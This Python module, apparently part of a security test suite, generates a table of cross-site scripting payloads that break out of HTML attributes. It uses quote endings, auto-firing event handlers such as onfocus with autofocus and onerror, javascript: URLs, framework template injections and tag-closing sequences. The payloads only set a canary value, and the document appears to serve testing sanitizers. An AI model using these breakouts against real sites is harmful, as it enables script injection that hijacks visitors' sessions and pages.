r"""Out of an attribute, into a handler that needs nobody's help, or into another attribute."""

from __future__ import annotations

from support.tricks.payloads import IMG, RUN, SCRIPT, SVG, Rows

__all__ = ["ATTRIBUTE_BREAKOUTS"]

_QUOTES = {"double": '"', "single": "'", "backtick": "`", "unquoted": "x"}

# Everything that stands between two attributes. A form feed does as well, and validation drops it. A slash does so
# only behind a quote: it belongs to a value without quotes.
_BETWEEN = {"blank": " ", "tab": "\t", "line-feed": "\n", "slash": "/", "blank-slash": " /"}

# Handlers that run by themselves, or at the visitor's first move, on an element of any kind or of those that a page
# puts values into. Backticks were quotes to old browsers only.
_HANDLERS = {
    "focus": "onfocus={q}{run}{q} autofocus tabindex=0 x={q}",
    "focusin": "onfocusin={q}{run}{q} autofocus contenteditable x={q}",
    "animation": "onanimationstart={q}{run}{q} style={q}animation:x{q} x={q}",
    "transition": "ontransitionend={q}{run}{q} style={q}transition:all{q} x={q}",
    "visibility": "oncontentvisibilityautostatechange={q}{run}{q} style={q}content-visibility:auto{q} x={q}",
    "pointer": "onpointerenter={q}{run}{q} style={q}position:fixed;inset:0{q} x={q}",
    "error": "onerror={q}{run}{q} src={q}x{q} x={q}",
    "load": "onload={q}{run}{q} x={q}",
    "toggle": "ontoggle={q}{run}{q} open popover x={q}",
    "scroll": "onscroll={q}{run}{q} style={q}overflow:scroll{q} x={q}",
    "begin": "onbegin={q}{run}{q} attributeName={q}x{q} dur={q}1s{q} x={q}",
    "upper": "ONFOCUS={q}{run}{q} AUTOFOCUS TABINDEX=0 x={q}",
}

# Attributes that change what the element is, says or asks for.
_OTHERS = {
    "style": "style={q}display:block!important",
    "href": "href={q}javascript:{run}",
    "xlink": "xlink:href={q}javascript:{run}",
    "src": "src={q}https://example.com/x.js",
    "srcset": "srcset={q}https://example.com/x.png 2x",
    "srcdoc": "srcdoc={q}<script>parent.canary=1</script>",
    "formaction": "formaction={q}javascript:{run}",
    "action": "action={q}https://example.com/",
    "type": "type={q}module",
    "nonce": "nonce={q}x",
    "integrity": "integrity={q}sha256-x",
    "id": "id={q}nostojs",
    "name": "name={q}nostojs",
    "is": "is={q}x-x",
    "slot": "slot={q}x",
    "part": "part={q}x",
    "dir": "dir={q}rtl",
    "lang": "lang={q}tr",  # other rules of upper and lower case
    "itemprop": "itemscope itemprop={q}email",
    "v-html": "v-html={q}constructor.constructor({other}{run}{other})()",
    "ng-init": "ng-app ng-init={q}constructor.constructor({other}{run}{other})()",
    "x-init": "x-data x-init={q}{run}",
    "htmx": "hx-trigger={q}load{q} hx-on::trigger={q}{run}",
    "data": "data-nosto={q}x",
    "namespace": "xmlns={q}x",
    "target": "target={q}_top",
    "ping": "ping={q}https://example.com/",
    "colon": ":x={q}{run}",
    "at": "@focus={q}{run}{q} autofocus x={q}",
}

# Quotes of both kinds, for who does not know which one stands there.
_ENDS = {
    "both": "'\">",
    "both-turned": "\"'>",
    "three": "`'\">",
    "entities": "&quot;&#39;>",
    "backslashes": "\\\"\\'>",
    "spaced": "' \" >",
    "comment": "'\"-->",
    "script": "'\"></script>",
    "textarea": "'\"></textarea></title></style>",
    "greater": ">>",
    "slash": '"/>',
    "slash-single": "'/>",
    "equals": '"=">',
    "line": '"\n>',
}

# What is no attribute yet, and becomes one with what follows.
_PARTS = {
    "name": "x=",
    "name-double": 'x="',
    "name-single": "x='",
    "double-ends": '"x"',
    "handler": "onfocus=",
    "handler-name": "onfocus",
    "double-handler": '" onfocus=',
    "single-handler": "' onfocus=",
    "double-blank": '" x',
    "single-blank": "' x",
    "value-blank": "x y",
    "ends": 'x />"',
    "equals-twice": "==",
    "backtick-end": "x`",  # old browsers took it for a quote when they read innerHTML
    "backticks": "``onmouseover=window.canary=1",
    "equals-first": "=x onfocus=window.canary=1 autofocus tabindex=0",
    "comma": '", onfocus="window.canary=1',
}

ATTRIBUTE_BREAKOUTS: Rows = (
    *(
        (
            f"attribute-{name}-{handler}",
            f"{quote} " + rest.format(q="" if name == "unquoted" else quote, run=RUN),
        )
        for name, quote in _QUOTES.items()
        for handler, rest in _HANDLERS.items()
    ),
    *(
        # What the page's own quote ends is an attribute of its own, or it would stand in the handler.
        (
            f"attribute-{name}-after-{blank}",
            between.join(
                (quote, "autofocus", f"tabindex={quote}0{quote}", f"onfocus={quote}{RUN}{quote}", f"x={quote}")
            ),
        )
        for name, quote in list(_QUOTES.items())[:3]
        for blank, between in _BETWEEN.items()
    ),
    *(
        (f"attribute-unquoted-after-{blank}", between.join(("x", "autofocus", "tabindex=0", f"onfocus={RUN}")))
        for blank, between in _BETWEEN.items()
    ),
    *(
        (f"attribute-{name}-sets-{other}", f"{quote} " + rest.format(q=quote, other=inner, run=RUN))
        for name, quote, inner in (("double", '"', "'"), ("single", "'", '"'))
        for other, rest in _OTHERS.items()
    ),
    *((f"attribute-ends-{name}-image", end + IMG) for name, end in _ENDS.items()),
    *((f"attribute-ends-{name}-script", end + SCRIPT) for name, end in list(_ENDS.items())[:4]),
    *((f"attribute-ends-{name}-drawing", end + SVG) for name, end in list(_ENDS.items())[4:8]),
    *((f"attribute-part-{name}", value) for name, value in _PARTS.items()),
)
